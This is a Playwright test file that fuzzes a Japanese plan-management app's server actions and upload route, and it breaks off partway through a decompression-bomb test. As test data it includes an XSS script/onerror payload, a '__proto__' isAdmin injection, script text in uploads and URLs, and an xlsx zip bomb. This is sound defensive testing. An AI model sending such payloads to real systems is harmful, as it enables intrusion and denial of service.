// Bad input against every server action of the build, called directly as an attacker would:
// no argument, wrong shapes, wrong types for every field, missing and unknown fields, oversized
// strings (up to 1 MB), negative, fractional and full-width numbers, HTML/script payloads,
// unknown ids, and (as staff) ids of another department's rows. Every call must be refused
// with a Japanese message and leave every table byte-for-byte unchanged. Then: bad uploads to
// the actuals upload route, and a script payload saved as text renders as text.
import { type APIRequestContext, type Browser, expect, request, test } from '@playwright/test';
import { actionResult, callAction, listBuiltActions, type ParsedResult } from './actions';
import { dataChecksum, one } from './db';
import { authFile } from './helpers';
import { E2E_BASE } from './ports';
import { e2eServerPid, serverRssMb } from './proc';
import { xlsxBomb } from '../lib/testing/make-zip';

const BASE = E2E_BASE;
const UNKNOWN = 999_999_999;
const MB = 1024 * 1024;
/** Longer than any field's limit, well under Next's 1 MB body limit. */
const LONG = 200_001;
const SCRIPT = '<script>window.__pwned=1</script><img src=x onerror="window.__pwned=2">';
const JAPANESE = /[\u3040-\u30ff\u3400-\u9fff]/;
/** Failed logins of this spec count against a documentation address, not the suite's 127.0.0.1. */
const LOGIN_HEADERS = { 'x-forwarded-for': '198.51.100.77' };

type Json = null | boolean | number | string | Json[] | { [k: string]: Json };
type Obj = { [k: string]: Json };
type Path = (string | number)[];

// ---------------------------------------------------------------------------------------------
// Ids of the shared demo database (FY2024 is published: its rows refuse every write).

const q = <T>(sql: string, ...args: unknown[]) => {
  const row = one<T | undefined>(sql, ...args);
  if (row === undefined) throw new Error(`no row for ${sql} ${JSON.stringify(args)}`);
  return row;
};
const planId = (year: number) => q<{ id: number }>("SELECT id FROM plans WHERE kind = 'annual' AND start_year = ?", year).id;
const sectionId = (key: string, year: number) =>
  q<{ id: number }>(
    'SELECT s.id FROM sections s JOIN plans p ON p.id = s.plan_id WHERE p.kind = ? AND p.start_year = ? AND s.key = ?',
    'annual',
    year,
    key,
  ).id;
const indicatorId = (code: string, year: number) =>
  q<{ id: number }>(
    'SELECT i.id FROM indicators i JOIN plans p ON p.id = i.plan_id WHERE p.kind = ? AND p.start_year = ? AND i.code = ?',
    'annual',
    year,
    code,
  ).id;
const departmentId = (code: string) => q<{ id: number }>('SELECT id FROM departments WHERE code = ?', code).id;
const assessmentVersion = (section: number) =>
  one<{ version: number } | undefined>('SELECT version FROM self_assessments WHERE section_id = ?', section)?.version ?? 0;
const valuesVersion = (indicator: number, year: number) =>
  one<{ version: number } | undefined>('SELECT version FROM indicator_values WHERE indicator_id = ? AND fiscal_year = ?', indicator, year)
    ?.version ?? 0;
const finalOpinion = (year: number, dept: string) =>
  q<{ id: number; version: number }>(
    "SELECT o.id, o.version FROM opinions o JOIN plans p ON p.id = o.plan_id WHERE p.kind = 'annual' AND p.start_year = ? AND o.department_id = ? AND o.status = 'final' ORDER BY o.id LIMIT 1",
    year,
    departmentId(dept),
  );

// ---------------------------------------------------------------------------------------------
// One sample input per action: valid in shape, but pointing at rows the handler refuses (a
// published year, a stale version, a taken login, an unknown id). The sample itself is sent
// once and must be refused for that reason, not as `invalid`: that proves each mutation below
// is refused because of what was mutated. Mutations are derived from the sample, so every field
// is covered; `extras` add payloads only a person reading the schema would think of.

type Extra = { label: string; args: unknown[]; expect?: string[] };
type Sample = {
  input: Obj;
  /** Keys the schema lets one leave out (leaving them out would make a different request). */
  optional?: string[];
  /** The schema strips unknown keys instead of refusing them (login). */
  lenient?: boolean;
  /** The sample itself is a valid request (logout {}): never sent as is. */
  validAsIs?: boolean;
  extras?: Extra[];
};

function samples(): Record<string, Sample> {
  const plan2024 = planId(2024);
  const plan2025 = planId(2025);
  const sec2024 = sectionId('init.hosho.bank_cooperation', 2024);
  const ind2024 = indicatorId('subrogation_amount', 2024);
  const ind2025 = indicatorId('succession_seido_amount', 2025);
  const hosho = departmentId('hosho');
  const line2024 = q<{ id: number }>('SELECT id FROM financial_lines WHERE plan_id = ? ORDER BY id LIMIT 1', plan2024).id;
  const comp2024 = q<{ id: number }>('SELECT id FROM opinion_compilations WHERE plan_id = ? ORDER BY id LIMIT 1', plan2024).id;
  const op2024 = finalOpinion(2024, 'hosho');
  const monthly: Json[] = Array(12).fill('');
  const cells = (over: Obj = {}): Obj => ({ actual: '1', prior: '', monthly, ...over });
  const indicatorFields: Obj = {
    code: 'subrogation_amount',
    name: '代位弁済額',
    unit: 'yen',
    scale: 0,
    direction: 'lower',
    yenPrecision: 'oku',
    aggregation: 'sum',
    pairKey: '',
    measure: null,
    allowNegative: false,
  };
  const ind2025Row = q<{ id: number; code: string; sectionId: number }>(
    'SELECT id, code, section_id AS sectionId FROM indicators WHERE id = ?',
    ind2025,
  );
  const editIndicator2025 = (text: string): unknown[] => [
    {
      planId: plan2025,
      id: ind2025,
      sectionId: ind2025Row.sectionId,
      ...indicatorFields,
      code: ind2025Row.code,
      name: '東京都制度融資「事業承継」保証承諾額',
      direction: 'higher',
      planValues: [{ fiscalYear: 2025, text }],
    },
  ];
  return {
    saveIndicatorActuals: {
      input: { indicatorId: ind2025, baseVersion: 999, ...cells() },
      extras: [
        // Negative values on an indicator that allows none, typed the ways people type them.
        ...['-5', '△5', '▲5', '－５', '−5'].map((v) => ({
          label: `negative actual ${v}`,
          args: [{ indicatorId: ind2025, baseVersion: valuesVersion(ind2025, 2025), ...cells({ actual: v }) }],
          expect: ['invalid'],
        })),
        {
          label: 'negative prior',
          args: [{ indicatorId: ind2025, baseVersion: valuesVersion(ind2025, 2025), ...cells({ prior: '-1' }) }],
          expect: ['invalid'],
        },
        {
          label: 'negative month',
          args: [{ indicatorId: ind2025, baseVersion: valuesVersion(ind2025, 2025), ...cells({ monthly: ['-3', ...Array(11).fill('')] }) }],
          expect: ['invalid'],
        },
        {
          label: 'not a number',
          args: [{ indicatorId: ind2025, baseVersion: valuesVersion(ind2025, 2025), ...cells({ actual: '1,06,4億' }) }],
          expect: ['invalid'],
        },
        {
          label: 'script as a figure',
          args: [{ indicatorId: ind2025, baseVersion: valuesVersion(ind2025, 2025), ...cells({ actual: SCRIPT.slice(0, 60) }) }],
          expect: ['invalid'],
        },
        {
          label: '11 months',
          args: [{ indicatorId: ind2025, baseVersion: 0, ...cells({ monthly: Array(11).fill('') }) }],
          expect: ['invalid'],
        },
      ],
    },
    importActuals: {
      input: { year: 2024, rows: [{ row: 2, code: 'subrogation_amount', ...cells() }] },
      extras: [
        {
          label: 'unknown year',
          args: [{ year: 2199, rows: [{ row: 2, code: 'subrogation_amount', ...cells() }] }],
          expect: ['not_found'],
        },
        {
          label: 'unknown indicator code',
          args: [{ year: 2025, rows: [{ row: 2, code: 'no_such_indicator', ...cells() }] }],
          expect: ['invalid'],
        },
        {
          label: 'negative actual',
          args: [{ year: 2025, rows: [{ row: 2, code: ind2025Row.code, ...cells({ actual: '-5' }) }] }],
          expect: ['invalid'],
        },
        {
          label: 'full-width negative actual',
          args: [{ year: 2025, rows: [{ row: 2, code: ind2025Row.code, ...cells({ actual: '－５' }) }] }],
          expect: ['invalid'],
        },
        { label: 'no rows', args: [{ year: 2025, rows: [] }], expect: ['invalid'] },
        {
          label: '1001 rows',
          args: [{ year: 2025, rows: Array.from({ length: 1001 }, (_v, i) => ({ row: i + 2, code: ind2025Row.code, ...cells() })) }],
          expect: ['invalid'],
        },
      ],
    },
    saveIndicator: {
      input: { planId: plan2024, id: ind2024, sectionId: sec2024, ...indicatorFields, planValues: [{ fiscalYear: 2024, text: '100億' }] },
      optional: ['id'],
      extras: [
        ...['-5', '△5', '－５'].map((v) => ({ label: `negative plan value ${v}`, args: editIndicator2025(v), expect: ['invalid'] })),
        { label: 'full-width code', args: [{ ...(editIndicator2025('1')[0] as Obj), code: 'ｃｏｄｅ' }], expect: ['invalid'] },
        { label: 'pair key without measure', args: [{ ...(editIndicator2025('1')[0] as Obj), pairKey: 'x' }], expect: ['invalid'] },
        { label: 'scale 5', args: [{ ...(editIndicator2025('1')[0] as Obj), scale: 5 }], expect: ['invalid'] },
      ],
    },
    deleteIndicator: { input: { id: ind2024 } },
    saveFinancialLine: {
      input: { planId: plan2024, id: line2024, fiscalYear: 2024, name: '経常収益', sectionId: null, priorAmount: '' },
      optional: ['id'],
      extras: [
        {
          label: 'full-width year',
          args: [{ planId: plan2024, fiscalYear: '２０２４', name: 'x', sectionId: null, priorAmount: '' }],
          expect: ['invalid'],
        },
      ],
    },
    moveFinancialLine: { input: { id: line2024, move: 'down' } },
    removeFinancialLine: { input: { id: line2024 } },
    saveDepartment: {
      input: { id: UNKNOWN, code: 'bad-input-dept', name: '不正入力部' },
      optional: ['id'],
      extras: [
        { label: 'full-width code', args: [{ code: 'ｂａｄ', name: '不正入力部' }], expect: ['invalid'] },
        { label: 'blank name', args: [{ code: 'bad-input-dept', name: '   ' }], expect: ['invalid'] },
      ],
    },
    moveDepartment: { input: { id: UNKNOWN, move: 'up' } },
    removeDepartment: { input: { id: UNKNOWN } },
    saveCommitteeMember: { input: { id: UNKNOWN, name: '委員', affiliation: '', title: '', userId: null }, optional: ['id'] },
    moveCommitteeMember: { input: { id: UNKNOWN, move: 'up' } },
    removeCommitteeMember: { input: { id: UNKNOWN } },
    createUser: {
      // 'admin' is taken: refused as a conflict.
      input: { loginId: 'admin', displayName: '管理者', role: 'staff', departmentIds: [hosho], password: 'long-enough-password' },
      extras: [
        {
          label: 'full-width login id',
          args: [{ loginId: 'ｂａｄ－ｉｎｐｕｔ', displayName: 'x', role: 'staff', departmentIds: [], password: 'long-enough-password' }],
          expect: ['invalid'],
        },
        {
          label: 'script login id',
          args: [{ loginId: SCRIPT, displayName: 'x', role: 'staff', departmentIds: [], password: 'long-enough-password' }],
          expect: ['invalid'],
        },
        {
          label: 'short password',
          args: [{ loginId: 'bad-input-user', displayName: 'x', role: 'staff', departmentIds: [], password: 'short' }],
          expect: ['invalid'],
        },
        ...['aaaaaaaaaa', 'qwertyuiop', 'password123', 'bad-input-user-2026'].map((weak) => ({
          label: `weak password ${weak}`,
          args: [{ loginId: 'bad-input-user', displayName: 'x', role: 'staff', departmentIds: [], password: weak }],
          expect: ['invalid'],
        })),
        {
          label: 'unknown role',
          args: [{ loginId: 'bad-input-user', displayName: 'x', role: 'root', departmentIds: [], password: 'long-enough-password' }],
          expect: ['invalid'],
        },
        {
          label: 'unknown department',
          args: [
            { loginId: 'bad-input-user', displayName: 'x', role: 'staff', departmentIds: [UNKNOWN], password: 'long-enough-password' },
          ],
          expect: ['not_found'],
        },
      ],
    },
    updateUser: { input: { userId: UNKNOWN, displayName: '職員', role: 'staff', departmentIds: [], active: true } },
    resetPassword: { input: { userId: UNKNOWN, password: 'long-enough-password' } },
    deleteUser: { input: { userId: UNKNOWN } },
    changePhase: {
      input: { planId: plan2024, from: 'review', to: 'entry', confirmed: true },
      extras: [
        { label: 'not confirmed', args: [{ planId: plan2025, from: 'entry', to: 'review', confirmed: false }], expect: ['invalid'] },
      ],
    },
    createPlan: {
      // FY2025 exists: refused as a duplicate.
      input: { kind: 'annual', startYear: 2025, title: '令和7年度 経営計画', source: 'copy', sourcePlanId: plan2024 },
      optional: ['sourcePlanId'],
      extras: [
        { label: 'full-width year', args: [{ kind: 'annual', startYear: '２０９０', title: 'x', source: 'empty' }], expect: ['invalid'] },
        { label: 'year 2101', args: [{ kind: 'annual', startYear: 2101, title: 'x', source: 'empty' }], expect: ['invalid'] },
        {
          label: 'unknown source plan',
          args: [{ kind: 'annual', startYear: 2090, title: 'x', source: 'copy', sourcePlanId: UNKNOWN }],
          expect: ['not_found'],
        },
      ],
    },
    updatePlan: {
      input: {
        planId: plan2024,
        version: 999,
        title: '令和6年度 経営計画',
        startYear: 2024,
        ratingScale: [],
        independentReview: false,
        entryDeadline: '',
        reviewDeadline: '',
        publishDeadline: '',
      },
      extras: [
        {
          label: 'full-width date',
          args: [
            {
              planId: plan2024,
              version: 1,
              title: 'x',
              startYear: 2024,
              ratingScale: [],
              independentReview: false,
              entryDeadline: '２０２４-０５-３１',
              reviewDeadline: '',
              publishDeadline: '',
            },
          ],
          expect: ['invalid'],
        },
        {
          label: 'impossible date',
          args: [
            {
              planId: plan2024,
              version: 1,
              title: 'x',
              startYear: 2024,
              ratingScale: [],
              independentReview: false,
              entryDeadline: '2024-13-45',
              reviewDeadline: '',
              publishDeadline: '',
            },
          ],
          expect: ['invalid'],
        },
        {
          label: 'duplicate grades',
          args: [
            {
              planId: plan2024,
              version: 1,
              title: 'x',
              startYear: 2024,
              ratingScale: [
                { grade: 'A', meaning: '' },
                { grade: 'A', meaning: '' },
              ],
              independentReview: false,
              entryDeadline: '',
              reviewDeadline: '',
              publishDeadline: '',
            },
          ],
          expect: ['invalid'],
        },
      ],
    },
    addSection: { input: { planId: plan2024, parentId: null, number: '9', title: '追加の節', kind: 'narrative', departmentId: null } },
    updateSection: { input: { sectionId: sec2024, number: '1', title: '金融機関と連携した支援', kind: 'initiative', departmentId: hosho } },
    moveSection: { input: { sectionId: sec2024, move: 'up' } },
    saveTableSpec: {
      input: {
        sectionId: sectionId('kpi.table', 2024),
        base: 'null',
        spec: {
          title: '表',
          stubLabel: '',
          columns: [{ key: 'amount', label: '金額' }],
          note: '',
          unit: null,
          rowOrder: [],
        },
      },
    },
    renumberSections: { input: { planId: plan2024, parentId: null } },
    deleteSection: { input: { sectionId: sec2024, confirmed: true } },
    restoreSection: { input: { sectionId: sec2024 } },
    saveAssessment: { input: { sectionId: sec2024, baseVersion: 999, narrative: '自己評価', rating: null } },
    submitAssessment: { input: { sectionId: sec2024, version: 999 } },
    approveAssessment: { input: { sectionId: sec2024, version: 999 } },
    returnAssessment: {
      input: { sectionId: sec2024, version: 999, comment: '差戻し' },
      extras: [{ label: 'blank comment', args: [{ sectionId: sec2024, version: 1, comment: '   ' }], expect: ['invalid'] }],
    },
    restoreRevision: { input: { sectionId: sec2024, baseVersion: 999, fromVersion: 1 } },
    // An account that does not exist: a well-formed attempt is refused as wrong credentials.
    login: { input: { loginId: 'bad-input-nobody', password: 'wrong-password' }, optional: ['next'], lenient: true },
    logout: { input: {}, validAsIs: true },
    generateCompilation: { input: { planId: plan2024, style: 'bullets' }, optional: ['style'] },
    saveCompilation: { input: { planId: plan2024, id: comp2024, version: 999, heading: '見出し', body: '本文' } },
    reorderCompilation: { input: { planId: plan2024, ids: [comp2024] } },
    // A year outside the indicator's plan: not found (notes are allowed on published years).
    addNote: {
      input: { indicatorId: ind2025, fiscalYear: 2099, month: 4, text: 'メモ' },
      extras: [
        { label: 'month 13', args: [{ indicatorId: ind2025, fiscalYear: 2025, month: 13, text: 'メモ' }], expect: ['invalid'] },
        { label: 'month 0', args: [{ indicatorId: ind2025, fiscalYear: 2025, month: 0, text: 'メモ' }], expect: ['invalid'] },
        { label: 'blank text', args: [{ indicatorId: ind2025, fiscalYear: 2025, month: 4, text: ' \n ' }], expect: ['invalid'] },
      ],
    },
    deleteNote: { input: { noteId: UNKNOWN } },
    saveOpinion: {
      input: { planId: plan2024, departmentId: hosho, sectionId: null, id: op2024.id, version: 999, text: '意見' },
      optional: ['id', 'version'],
    },
    finalizeOpinion: { input: { id: op2024.id, version: 999 } },
    deleteOpinion: { input: { id: op2024.id, version: 999 } },
    markSectionsReadAction: {
      input: { planId: plan2024, items: [{ sectionId: sec2024, version: 1 }] },
      extras: [
        {
          label: '201 items',
          args: [{ planId: plan2024, items: Array.from({ length: 201 }, () => ({ sectionId: sec2024, version: 1 })) }],
          expect: ['invalid'],
        },
      ],
    },
    setIndependentReview: { input: { planId: plan2024, enabled: false, version: 999 } },
    publishYear: { input: { planId: plan2024, reason: '訂正', override: '速報値のため' }, optional: ['reason', 'override'] },
    unlockYear: {
      // FY2025 is not published: nothing to unlock.
      input: { planId: plan2025, reason: '訂正' },
      extras: [{ label: 'blank reason', args: [{ planId: plan2025, reason: '  ' }], expect: ['invalid'] }],
    },
    saveResponse: {
      input: { opinionId: op2024.id, version: 999, text: '対応方針', state: 'open' },
      extras: [
        { label: 'unknown state', args: [{ opinionId: op2024.id, version: null, text: 'x', state: 'closed' }], expect: ['invalid'] },
      ],
    },
  };
}

// ---------------------------------------------------------------------------------------------
// Mutations derived from a sample.

type Payload = { label: string; args: unknown[]; expect: string[] | 'refused' };

function nodes(value: Json, path: Path = []): { path: Path; value: Json }[] {
  const out: { path: Path; value: Json }[] = path.length ? [{ path, value }] : [];
  if (Array.isArray(value)) {
    if (value.length) out.push(...nodes(value[0]!, [...path, 0]));
  } else if (value !== null && typeof value === 'object') {
    for (const [k, v] of Object.entries(value)) out.push(...nodes(v, [...path, k]));
  }
  return out;
}

function withNode(root: Obj, path: Path, fn: (parent: Record<string | number, unknown>, key: string | number) => void): Obj {
  const copy = structuredClone(root) as Record<string | number, unknown>;
  let parent = copy;
  for (const k of path.slice(0, -1)) parent = parent[k] as Record<string | number, unknown>;
  fn(parent, path.at(-1)!);
  return copy as Obj;
}
const setAt = (root: Obj, path: Path, v: unknown) => withNode(root, path, (p, k) => (p[k] = v));
const name = (path: Path) => path.join('.');

/** The confusions a hand-made request makes: numbers as text, text as numbers, and so on. */
function wrongType(v: Json): unknown {
  if (typeof v === 'string') return 12345;
  if (typeof v === 'number') return String(v);
  if (typeof v === 'boolean') return 'true';
  if (v === null) return {};
  if (Array.isArray(v)) return 'not-a-list';
  return [];
}

const isIdKey = (k: string | number) => typeof k === 'string' && (k === 'id' || /Id$/.test(k));
const isIdsKey = (k: string | number) => typeof k === 'string' && (k === 'ids' || /Ids$/.test(k));

function mutations(sample: Sample): Payload[] {
  const input = sample.input;
  const out: Payload[] = [];
  const all = nodes(input);
  for (const { path, value } of all) {
    const w = wrongType(value);
    out.push({ label: `${name(path)} as ${JSON.stringify(w)}`, args: [setAt(input, path, w)], expect: ['invalid'] });
    const key = path.at(-1)!;
    if (typeof key === 'string' && !(path.length === 1 && sample.optional?.includes(key))) {
      out.push({ label: `${name(path)} missing`, args: [withNode(input, path, (p, k) => delete p[k])], expect: ['invalid'] });
    }
    if (typeof value === 'string')
      out.push({ label: `${name(path)} of ${LONG} characters`, args: [setAt(input, path, 'あ'.repeat(LONG))], expect: ['invalid'] });
    if (typeof value === 'number') {
      out.push({ label: `${name(path)} negative`, args: [setAt(input, path, -Math.max(1, value))], expect: ['invalid'] });
      out.push({ label: `${name(path)} fractional`, args: [setAt(input, path, value + 0.5)], expect: ['invalid'] });
      out.push({
        label: `${name(path)} full-width`,
        args: [
          setAt(
            input,
            path,
            String(value).replace(/\d/g, (d) => String.fromCharCode(0xff10 + Number(d))),
          ),
        ],
        expect: ['invalid'],
      });
    }
    if (value !== null && typeof value === 'object' && !Array.isArray(value)) {
      out.push({
        label: `${name(path)} with an unknown key`,
        args: [setAt(input, path, { ...value, unexpected: 1 })],
        expect: ['invalid'],
      });
    }
  }
  out.push({ label: 'an unknown key', args: [{ ...input, unexpected: 1 }], expect: sample.lenient ? 'refused' : ['invalid'] });
  // A "__proto__" key (an own key, as JSON.parse makes it) is dropped by React's argument
  // decoder before zod sees it: the request is the sample's, refused for the sample's reason.
  // Never for a sample that is valid as is (logout would end the suite's admin session).
  if (!sample.validAsIs) {
    const withProto = JSON.parse(`{"__proto__":{"isAdmin":true},${JSON.stringify(input).slice(1)}`) as Obj;
    out.push({ label: 'a __proto__ key', args: [withProto], expect: 'refused' });
  }

  // Every string field at once carries a script payload; every id names nothing.
  const strings = all.filter((n) => typeof n.value === 'string');
  if (strings.length)
    out.push({
      label: 'script payload in every text',
      args: [strings.reduce((acc, n) => setAt(acc, n.path, SCRIPT), input)],
      expect: 'refused',
    });
  const ids = all.filter((n) => isIdKey(n.path.at(-1)!) && typeof n.value === 'number');
  const idLists = all.filter((n) => isIdsKey(n.path.at(-1)!));
  if (ids.length || idLists.length) {
    let unknown = ids.reduce((acc, n) => setAt(acc, n.path, UNKNOWN), input);
    unknown = idLists.reduce((acc, n) => setAt(acc, n.path, [UNKNOWN]), unknown);
    out.push({ label: 'unknown ids', args: [unknown], expect: 'refused' });
  }
  // 1 MB in the first text field (or as the first field): within the server's body limit
  // (next.config.js), so the action itself refuses it with a message.
  const first = strings[0] ?? all[0];
  if (first) out.push({ label: `${name(first.path)} of 1 MB`, args: [setAt(input, first.path, 'x'.repeat(MB))], expect: 'refused' });
  if (!sample.validAsIs) out.push({ label: 'the sample itself', args: [input], expect: 'refused' });
  for (const e of sample.extras ?? []) out.push({ label: e.label, args: e.args, expect: e.expect ?? 'refused' });
  return out;
}

/** Shapes any action gets, including one added later without a sample here. */
function generic(sample: Sample | undefined): Payload[] {
  const out: Payload[] = [
    { label: 'no argument', args: [], expect: ['invalid'] },
    { label: 'null', args: [null], expect: ['invalid'] },
    { label: 'a negative number', args: [-1], expect: ['invalid'] },
    { label: 'a full-width number as text', args: ['１２３'], expect: ['invalid'] },
    { label: 'a script string', args: [SCRIPT], expect: ['invalid'] },
    { label: 'an array', args: [[]], expect: ['invalid'] },
  ];
  if (!sample?.validAsIs) out.push({ label: '{}', args: [{}], expect: ['invalid'] });
  // A sample sends its 1 MB in a field; an action without one gets it as the argument.
  if (!sample || !nodes(sample.input).length) out.push({ label: 'a 1 MB string', args: ['x'.repeat(MB)], expect: ['invalid'] });
  return out;
}

// ---------------------------------------------------------------------------------------------

type Outcome = { action: string; label: string; status: number; result: ParsedResult | null };

function problemOf(o: Outcome, expected: Payload['expect']): string | null {
  const at = `${o.action} [${o.label}]`;
  if (o.status !== 200 || !o.result) return `${at}: HTTP ${o.status} without an ActionResult`;
  if (o.result.ok) return `${at}: accepted`;
  if (!o.result.message || !JAPANESE.test(o.result.message)) return `${at}: message ${JSON.stringify(o.result.message)} is not Japanese`;
  if (expected !== 'refused' && !expected.includes(o.result.error ?? '')) return `${at}: ${o.result.error}, expected ${expected.join('|')}`;
  if (expected === 'refused' && o.label === 'the sample itself' && o.result.error === 'invalid')
    return `${at}: the sample is invalid: ${JSON.stringify(o.result.fieldErrors)}`;
  return null;
}

async function runAll(
  api: APIRequestContext,
  action: { id: string; name: string },
  payloads: Payload[],
  concurrency = 6,
): Promise<Outcome[]> {
  const outcomes: Outcome[] = new Array(payloads.length);
  let next = 0;
  const worker = async () => {
    while (next < payloads.length) {
      const i = next++;
      const p = payloads[i]!;
      const headers = action.name === 'login' ? LOGIN_HEADERS : undefined;
      const r = await callAction(api, action.id, p.args, { path: '/', headers });
      outcomes[i] = { action: action.name, label: p.label, status: r.status, result: actionResult(r.body) };
    }
  };
  await Promise.all(Array.from({ length: concurrency }, worker));
  return outcomes;
}

test.describe.configure({ mode: 'serial' });

test('every action refuses bad input with a Japanese message and changes nothing', async () => {
  test.setTimeout(240_000);
  const api = await request.newContext({ baseURL: BASE, storageState: authFile('admin') });
  const table = samples();
  const actions = listBuiltActions();
  const byName = new Map(actions.map((a) => [a.name, a]));
  expect(actions.length).toBeGreaterThan(40);
  // A sample of an action that no longer exists would silently test nothing.
  expect(Object.keys(table).filter((n) => !byName.has(n))).toEqual([]);

  const problems: string[] = [];
  const englishFieldErrors = new Set<string>();
  const codes: Record<string, number> = {};
  let calls = 0;
  const started = Date.now();
  for (const action of actions) {
    const sample = table[action.name];
    if (!sample) console.log(`bad-input: ${action.file}#${action.name} has no sample here: generic payloads only`);
    const payloads = [...generic(sample), ...(sample ? mutations(sample) : [])];
    const before = dataChecksum();
    const outcomes = await runAll(api, action, payloads);
    const after = dataChecksum();
    calls += outcomes.length;
    for (const [i, o] of outcomes.entries()) {
      const expected = payloads[i]!.expect;
      const problem = problemOf(o, expected);
      if (problem) problems.push(problem);
      if (o.result && !o.result.ok) codes[o.result.error ?? '?'] = (codes[o.result.error ?? '?'] ?? 0) + 1;
      for (const msgs of Object.values(o.result?.fieldErrors ?? {}))
        for (const m of msgs) if (!JAPANESE.test(m)) englishFieldErrors.add(m.slice(0, 80));
    }
    const changed = Object.keys(before).filter((t) => before[t] !== after[t]);
    if (changed.length) problems.push(`${action.name}: tables changed: ${changed.join(', ')}`);
  }
  console.log(
    `bad-input: ${actions.length} actions, ${calls} calls in ${((Date.now() - started) / 1000).toFixed(1)} s; refusals by code ${JSON.stringify(codes)}`,
  );
  // Field messages are shown next to the fields: never zod's English.
  for (const m of englishFieldErrors) problems.push(`a field message is not Japanese: ${m}`);
  expect(problems).toEqual([]);
  // The server is still up and serving after all of it.
  expect((await api.get('/api/health')).status()).toBe(200);
  await api.dispose();
});

test("as staff, ids of another department's rows are refused and change nothing", async () => {
  const api = await request.newContext({ baseURL: BASE, storageState: authFile('staff-hosho') });
  const byName = new Map(listBuiltActions().map((a) => [a.name, a]));
  const plan2025 = planId(2025);
  const shienSection = sectionId('init.shien.cooperation', 2025);
  const kikakuSection = sectionId('kpi.approvals', 2025);
  const shienIndicator = indicatorId('support_meetings', 2025);
  const shienCode = q<{ code: string }>('SELECT code FROM indicators WHERE id = ?', shienIndicator).code;
  const shienOpinion = finalOpinion(2024, 'shien');
  const cells = { actual: '12', prior: '', monthly: Array(12).fill('') };
  const cases: [string, unknown, string[]][] = [
    [
      'saveAssessment',
      { sectionId: shienSection, baseVersion: assessmentVersion(shienSection), narrative: '他部門の自己評価を書き換える', rating: null },
      ['forbidden', 'not_found'],
    ],
    [
      'saveAssessment',
      { sectionId: kikakuSection, baseVersion: assessmentVersion(kikakuSection), narrative: '企画部の自己評価を書き換える', rating: null },
      ['forbidden', 'not_found'],
    ],
    ['submitAssessment', { sectionId: kikakuSection, version: assessmentVersion(kikakuSection) }, ['forbidden', 'not_found']],
    [
      'restoreRevision',
      { sectionId: kikakuSection, baseVersion: assessmentVersion(kikakuSection), fromVersion: 1 },
      ['forbidden', 'not_found'],
    ],
    ['approveAssessment', { sectionId: kikakuSection, version: assessmentVersion(kikakuSection) }, ['forbidden', 'not_found']],
    [
      'returnAssessment',
      { sectionId: kikakuSection, version: assessmentVersion(kikakuSection), comment: '差戻し' },
      ['forbidden', 'not_found'],
    ],
    [
      'saveIndicatorActuals',
      { indicatorId: shienIndicator, baseVersion: valuesVersion(shienIndicator, 2025), ...cells },
      ['forbidden', 'not_found'],
    ],
    ['importActuals', { year: 2025, rows: [{ row: 2, code: shienCode, ...cells }] }, ['invalid', 'forbidden']],
    ['addNote', { indicatorId: shienIndicator, fiscalYear: 2025, month: 4, text: '他部門の指標へのメモ' }, ['forbidden', 'not_found']],
    ['saveResponse', { opinionId: shienOpinion.id, version: null, text: '他部門の対応方針', state: 'done' }, ['forbidden', 'not_found']],
    [
      'updateSection',
      { sectionId: shienSection, number: '1', title: '乗っ取り', kind: 'initiative', departmentId: departmentId('hosho') },
      ['forbidden'],
    ],
    ['deleteSection', { sectionId: shienSection, confirmed: true }, ['forbidden']],
    ['changePhase', { planId: plan2025, from: 'entry', to: 'review', confirmed: true }, ['forbidden']],
  ];
  const before = dataChecksum();
  const problems: string[] = [];
  for (const [action, input, expected] of cases) {
    const r = await callAction(api, byName.get(action)!.id, [input], { path: '/' });
    const o: Outcome = { action, label: JSON.stringify(input).slice(0, 80), status: r.status, result: actionResult(r.body) };
    const problem = problemOf(o, expected);
    if (problem) problems.push(problem);
  }
  expect(problems).toEqual([]);
  expect(dataChecksum()).toEqual(before);
  console.log(`bad-input: ${cases.length} cross-department calls as staff-hosho refused`);
  await api.dispose();
});

test('bad uploads to the actuals upload route are refused and change nothing', async () => {
  const api = await request.newContext({ baseURL: BASE, storageState: authFile('admin') });
  const ExcelJS = (await import('exceljs')).default;
  const wrongHeader = new ExcelJS.Workbook();
  wrongHeader.addWorksheet('実績入力').addRow(['code', 'name', SCRIPT]);
  const file = (name: string, buffer: Buffer, mimeType = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet') => ({
    multipart: { file: { name, mimeType, buffer } },
  });
  const uploads: [string, string, Parameters<APIRequestContext['post']>[1], number, string | null][] = [
    [
      'text bytes named .xlsx',
      '/api/years/2025/actuals/upload',
      file('actuals.xlsx', Buffer.from('これはExcelではありません\n<script>alert(1)</script>')),
      400,
      'not_xlsx',
    ],
    [
      'a zip that is no workbook',
      '/api/years/2025/actuals/upload',
      file('actuals.xlsx', Buffer.from([0x50, 0x4b, 0x03, 0x04, ...Array(200).fill(0)])),
      400,
      'not_xlsx',
    ],
    ['an empty file', '/api/years/2025/actuals/upload', file('actuals.xlsx', Buffer.alloc(0)), 400, 'not_xlsx'],
    [
      'a workbook with other headers',
      '/api/years/2025/actuals/upload',
      file('actuals.xlsx', Buffer.from(await wrongHeader.xlsx.writeBuffer())),
      400,
      'bad_header',
    ],
    ['a file over 2 MB', '/api/years/2025/actuals/upload', file('actuals.xlsx', Buffer.alloc(2 * MB + 1, 0x41)), 413, 'too_large'],
    ['no file field', '/api/years/2025/actuals/upload', { multipart: { other: 'x' } }, 400, 'no_file'],
    ['a JSON body', '/api/years/2025/actuals/upload', { data: { file: 'x' } }, 400, 'no_file'],
    ['an unknown year', '/api/years/2199/actuals/upload', file('actuals.xlsx', Buffer.from('x')), 404, null],
    ['a year that is no number', '/api/years/%3Cscript%3E/actuals/upload', file('actuals.xlsx', Buffer.from('x')), 404, null],
  ];
  const before = dataChecksum();
  for (const [label, url, body, status, code] of uploads) {
    const res = await api.post(url, body);
    expect(res.status(), label).toBe(status);
    const json = (await res.json()) as { ok?: boolean; code?: string; error?: string; message?: string };
    expect(json.ok, label).not.toBe(true);
    if (code) expect(json.code, label).toBe(code);
    else expect(json.error, label).toBe('not_found');
    expect(json.message, label).toMatch(JAPANESE);
  }
  expect(dataChecksum()).toEqual(before);
  console.log(`bad-input: ${uploads.length} bad uploads refused with 4xx`);
  await api.dispose();
});

test('an xlsx decompression bomb is refused at once; the server keeps answering and its memory stays low', async () => {
  const api = await request.newContext({ baseURL: BASE, storageState: authFile('admin') });
  const server = e2eServerPid();
  const before = dataChecksum();
  const bombs: [string, Buffer][] = [
    ['a sheet that unpacks to 300 MB', xlsxBomb(300)],
